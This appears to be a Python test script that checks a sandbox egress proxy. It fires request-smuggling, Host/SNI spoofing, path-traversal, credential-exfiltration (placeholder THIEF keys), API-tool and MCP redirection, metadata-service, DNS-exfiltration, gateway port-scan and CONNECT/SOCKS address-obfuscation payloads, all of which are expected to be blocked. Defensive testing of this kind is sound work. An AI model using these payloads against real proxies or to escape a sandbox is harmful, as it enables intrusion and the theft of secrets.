# Against the way out. argv: a TCP port of the host's loopback that must stay
# silent. Requests that must not arrive say /bad or THIEF; the record tells.
host_port = int(sys.argv[1])

def get(path, head='', method='GET', body='', host='docs.example.com', **how):
    return status('%s %s HTTP/1.1\r\nHost: %s\r\n%sConnection: close\r\n\r\n%s' % (method, path, host, head, body), host=host, **how)

def tcp(addr, port):
    s = socket.socket(socket.AF_INET6 if ':' in addr else socket.AF_INET)
    s.settimeout(1)
    s.connect((addr, port))
    return True

control('PXY-09', 'a granted GET', lambda: get('/ok/control'))
control('PXY-18', 'a granted POST', lambda: get('/ok/control', 'Content-Length: 3\r\n', 'POST', 'abc'))
H = 'Host: docs.example.com\r\n'
after = 'GET /bad/smuggled HTTP/1.1\r\n' + H + '\r\n'
for te in ['chunked', 'xchunked', 'chunked, identity', 'identity', '\tchunked', 'chunked\r\nTransfer-Encoding: x', 'Chunked', '"chunked"', 'gzip, chunked', ' chunked ']:
    attack('PXY-18', 'TE %r with CL' % te, lambda: status('POST /ok/te HTTP/1.1\r\n' + H + 'Transfer-Encoding: ' + te + '\r\nContent-Length: 5\r\n\r\n0\r\n\r\n' + after))
attack('PXY-18', 'space before the colon', lambda: status('POST /ok/te HTTP/1.1\r\n' + H + 'Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n' + after))
for cl in ['0\r\nContent-Length: 40', '+0', '0,0', '0x0', '-1', '0 0', '0_0', '99999999999999999999']:
    attack('PXY-18', 'CL %r' % cl, lambda: status('POST /ok/cl HTTP/1.1\r\n' + H + 'Content-Length: ' + cl + '\r\n\r\n' + after))
for chunk in ['0x3\r\nabc\r\n0\r\n\r\n', '-3\r\nabc\r\n0\r\n\r\n', '3 \r\nabc\r\n0\r\n\r\n' + 'x', 'fffffffffffffffff\r\nabc']:
    attack('PXY-18', 'chunk %r' % chunk[:6], lambda: status('POST /ok/chunk HTTP/1.1\r\n' + H + 'Transfer-Encoding: chunked\r\n\r\n' + chunk + after))
control('PXY-19', 'the first of two requests in one write', lambda: status('GET /ok/first HTTP/1.1\r\n' + H + '\r\n' + after))
say('PXY-19', 'the second of them', 'sent')
for what, head in {'another Host': 'Host: other.example.com\r\n', 'two Hosts': H + 'Host: other.example.com\r\n', 'Host with a space': 'Host: docs.example.com other.example.com\r\n', 'a folded Host': 'Host: docs.example.com\r\n other.example.com\r\n', 'another port': 'Host: docs.example.com:8443\r\n', 'no Host': ''}.items():
    attack('PXY-09', what, lambda: status('GET /ok/bad/host HTTP/1.1\r\n' + head + 'Connection: close\r\n\r\n'))
attack('PXY-08', 'another SNI', lambda: get('/ok/bad/sni', sni='other.example.com'))
attack('PXY-14', 'no TLS on a TLS port', lambda: get('/ok/bad/plain', tls=False))
for target in ['https://other.example.com/o/bad', 'https://docs.example.com@other.example.com/bad', 'http://docs.example.com/ok/bad', 'ok/bad', '*']:
    attack('PXY-16', target, lambda: get(target))
for p in ['/ok/../bad/1', '/ok/%2e%2e/bad/2', '/ok/..%2fbad/3', '/ok/%252e%252e/bad/4', '/ok/..\\bad/5', '/ok//../bad/6', '/ok/..;/bad/7', '/ok/%2e%2e%5cbad/8', '/ok%2fbad/9', '/ok/.%2e/bad/10', '/ok/%c0%ae%c0%ae/bad', '//ok/bad', '/@a%2f..%2fbad', '/ok/bad%0d%0aX:y', '/OK/bad', '/ok/bad%00']:
    attack('PXY-26', p, lambda: get(p))
for m in ['PUT', 'DELETE', 'TRACE', 'CONNECT', 'get', 'FOO', 'OPTIONS', 'PRI']: attack('PXY-27', m, lambda: get('/ok/bad', method=m))
for h in ['X-HTTP-Method-Override: DELETE', 'X-HTTP-Method: DELETE', 'X-Original-URL: /bad', 'X-Rewrite-URL: /bad', 'X_Original_URL: /bad']: attack('PXY-27', h, lambda: get('/ok/bad', h + '\r\n', 'POST'))
attack('PXY-23', 'websocket', lambda: get('/ok/bad', 'Upgrade: websocket\r\nSec-WebSocket-Key: eA==\r\nSec-WebSocket-Version: 13\r\nConnection: Upgrade\r\n'))
attack('PXY-35', 'nominated header', lambda: get('/ok/bad', 'Connection: X-Session\r\n'))
for h in ['Authorization: Bearer THIEF', 'X-Api-Key: THIEF', 'Cookie: s=THIEF', 'Proxy-Authorization: Basic VEhJRUY6', 'Private-Token: THIEF', 'X-Auth-Token: THIEF', 'X-Custom: sk-ant-api03-THIEFTHIEFTHIEFTHIEFTHIEF', 'X-Amz-Security-Token: THIEF', 'X-Goog-Api-Key: THIEF']:
    attack('EXF-01', h[:24], lambda: get('/ok/bad', h + '\r\n'))
for q in ['key=THIEF', 'API-KEY=THIEF', 'access_token=THIEF', 'k%65y=THIEF', 'a=ghp_THIEFTHIEFTHIEFTHIEFTHIEFTHIEFTHIEF']: attack('EXF-01', q[:14], lambda: get('/ok/bad?' + q))
status('POST /ok/trailer HTTP/1.1\r\n' + H + 'Transfer-Encoding: chunked\r\nConnection: close\r\n\r\n3\r\nabc\r\n0\r\nX-Api-Key: THIEF\r\n\r\n')
say('EXF-01', 'a key in a trailer', 'sent')
control('CRD-10', 'a placeholder is there', lambda: KEY.startswith('sk-ant-'))
for what, f in {'another host': lambda: get('/ok/bad', 'X-Api-Key: %s\r\n' % KEY), 'path': lambda: get('/ok/bad/' + KEY), 'query': lambda: get('/ok/bad?x=' + KEY), 'another header': lambda: get('/ok/bad', 'X-Foo: %s\r\n' % KEY)}.items(): attack('CRD-10', what, f)

M = {'model': 'm', 'max_tokens': 1, 'messages': [{'role': 'user', 'content': 'hi'}]}
def ask(body=M, head='', path='/v1/messages', key=None, type='application/json'):
    b = body if isinstance(body, bytes) else json.dumps(body).encode()
    return status(('POST %s HTTP/1.1\r\nHost: api.anthropic.com\r\nContent-Type: %s\r\nX-Api-Key: %s\r\n%sContent-Length: %d\r\nConnection: close\r\n\r\n' % (path, type, key or KEY, head, len(b))).encode() + b, host='api.anthropic.com')
control('EXF-04', 'a plain message', ask)
J = json.dumps(M)[:-1].encode()
def content(c): return {**M, 'messages': [{'role': 'user', 'content': [c]}]}
url = {'type': 'image', 'source': {'type': 'url', 'url': 'https://bad.test/'}}
for what, b in {'mcp_servers': {**M, 'mcp_servers': [{'type': 'url', 'url': 'https://bad.test'}]}, 'escaped name': J + b',"mcp\\u005fservers":[{"url":"https://bad.test"}]}', 'twice': J + b',"mcp_servers":null,"mcp_servers":[{"url":"https://bad.test"}]}', 'other case': {**M, 'MCP_SERVERS': ['bad.test']}, 'behind the end': J + b'}{"mcp_servers":["bad.test"]}', 'toolset': {**M, 'tools': [{'type': 'mcp_toolset', 'mcp_server_name': 'bad.test'}]}, 'unknown field': {**M, 'webhook': 'https://bad.test'}}.items(): attack('EXF-04', what, lambda: ask(b))
for what, b in {'web_fetch': {**M, 'tools': [{'type': 'web_fetch_20250910', 'name': 'bad.test'}]}, 'web_search': {**M, 'tools': [{'type': 'web_search_20250305', 'name': 'bad.test'}]}, 'code_execution': {**M, 'tools': [{'type': 'code_execution_20250522', 'name': 'bad.test'}]}, 'unknown tool': {**M, 'tools': [{'type': 'bad.test', 'name': 'x'}]}, 'image by url': content(url), 'in a tool result': content({'type': 'tool_result', 'tool_use_id': 'x', 'content': [url]}), 'system': {**M, 'system': [url]}, 'stored file': content({'type': 'document', 'source': {'type': 'file', 'file_id': 'bad.test'}})}.items(): attack('EXF-03', what, lambda: ask(b))
for what, f in {'gzip': lambda: ask(__import__('gzip').compress(b'bad.test'), 'Content-Encoding: gzip\r\n'), 'utf-16': lambda: ask(json.dumps({**M, 'mcp_servers': ['bad.test']}).encode('utf-16')), 'a form': lambda: ask(b'bad.test', type='application/x-www-form-urlencoded'), 'utf-7': lambda: ask({**M, 'x': 'bad.test'}, type='application/json; charset=utf-7')}.items(): attack('PXY-33', what, f)
for what, f in {'foreign key': lambda: ask(key='sk-ant-api03-THIEF'), 'a second header': lambda: ask(head='Authorization: Bearer THIEF\r\n'), 'a second value': lambda: ask(head='X-Api-Key: THIEF\r\n'), 'a suffix': lambda: ask(key=KEY + 'THIEF'), 'files': lambda: ask(b'THIEF', path='/v1/files'), 'batches': lambda: ask({'requests': ['THIEF']}, path='/v1/messages/batches')}.items(): attack('EXF-01', what, f)
ask(head='Anthropic-Beta: mcp-client-2025-04-04,web-fetch-2025-09-10,files-api-2025-04-14\r\n')
say('EXF-07', 'feature headers', 'sent')

for a, p in [('8.8.8.8', 443), ('1.1.1.1', 53), ('127.0.0.1', host_port), ('127.0.0.2', host_port), ('10.0.0.1', 80), ('192.168.0.1', 80), ('172.17.0.1', 80)]: attack('NET-01', '%s:%d' % (a, p), lambda: tcp(a, p))
for a, p in [('::1', host_port), ('2606:4700::1111', 443), ('::ffff:8.8.8.8', 443), ('fd00:ec2::254', 80)]: attack('NET-05', a, lambda: tcp(a, p))
attack('NET-06', 'metadata', lambda: tcp('169.254.169.254', 80))
for p in (22, 80, 8443, host_port): attack('NET-16', 'port %d of a granted name' % p, lambda: connect('docs.example.com', p, tls=False))
for a in ('8.8.8.8', '127.0.0.1', '224.0.0.1'):
    for p in (53, 443, host_port):
        def udp():
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.settimeout(0.2)
            s.sendto(b'THIEF', (a, p))
            return s.recv(10)
        attack('NET-11', 'udp %s:%d' % (a, p), udp)
for name in ['secret.bad.test', 'secret.docs.example.com', 'metadata.google.internal', 'localhost.bad.test', 'a' * 63 + '.bad.test']:
    attack('DNS-01', repr(name), lambda: socket.getaddrinfo(name, 443))
if not PROXY:
    control('DNS-01', 'a granted name', lambda: socket.getaddrinfo('docs.example.com', 443))
    gateway = [l.split()[1] for l in open('/etc/resolv.conf') if l.startswith('nameserver')][0]
    control('CTL-04', 'the name server answers', lambda: tcp(gateway, 53))
    for p in [p for p in range(1, 1025) if p != 53] + [2019, 2375, 3000, 3128, 6060, 8000, 8001, 8080, 8081, 8443, 9000, 9090, 9091, 15000, 18080, host_port]:
        s = socket.socket()
        s.settimeout(0.5)
        e = s.connect_ex((gateway, p))
        if e == 0: say('CTL-04', 'port %d of the gateway' % p, 'reached')
        s.close()
    say('CTL-04', 'a thousand ports of the gateway', 'refused')
else:
    def relay(data):
        s = socket.create_connection(('127.0.0.1', 3128), 5)
        s.settimeout(3)
        s.sendall(data)
        r = s.recv(64)
        return r if b' 200 ' in r else False
    def socks(name, port=443, kind=3):
        s = socket.create_connection(('127.0.0.1', 3128), 5)
        s.settimeout(3)
        s.sendall(b'\5\1\0'); s.recv(2)
        s.sendall(bytes([5, 1, 0, kind]) + (bytes([len(name)]) if kind == 3 else b'') + name + struct.pack('>H', port))
        return s.recv(64)[1] == 0
    control('NET-02', 'CONNECT to a granted name', lambda: relay(b'CONNECT docs.example.com:443 HTTP/1.1\r\nHost: x\r\n\r\n'))
    control('PXY-01', 'SOCKS to a granted name', lambda: socks(b'docs.example.com'))
    lo = ':%d' % host_port
    for id, targets in {'NET-02': ['8.8.8.8:443', '127.0.0.1' + lo, '[::1]' + lo, '[::ffff:127.0.0.1]' + lo], 'NET-03': ['0x7f.1' + lo, '2130706433' + lo, '017700000001' + lo, '127.1' + lo, '0177.0.0.1' + lo], 'NET-13': ['localhost' + lo, 'localhost:22'], 'PXY-03': ['docs.example.com:443@bad.test:443', 'x@docs.example.com:443', 'docs.example.com:443#@bad.test:443', 'docs.example.com\\@bad.test:443'], 'PXY-07': ['evildocs.example.com:443', 'docs.example.com.bad.test:443', '*:443'], 'PXY-06': ['docs\u3002example\u3002com:443', '\u2460\u2461\u2466.0.0.1:80'], 'PXY-01': ['docs.example.com\0.bad.test:443', 'docs.example.com%00.bad.test:443'], 'NET-16': ['docs.example.com:22', 'docs.example.com:65979', 'docs.example.com:0443']}.items():
        for t in targets: attack(id, 'CONNECT ' + repr(t), lambda: relay(b'CONNECT ' + t.encode() + b' HTTP/1.1\r\nHost: x\r\n\r\n'))
    for n in [b'docs.example.com\0bad.test', b'bad.test\0docs.example.com', b'127.0.0.1', b'::1', b'0x7f000001', b'localhost', b'']: attack('PXY-01', 'SOCKS %r' % n, lambda: socks(n))
    attack('NET-02', 'SOCKS by address', lambda: socks(bytes([127, 0, 0, 1]), host_port, 1))
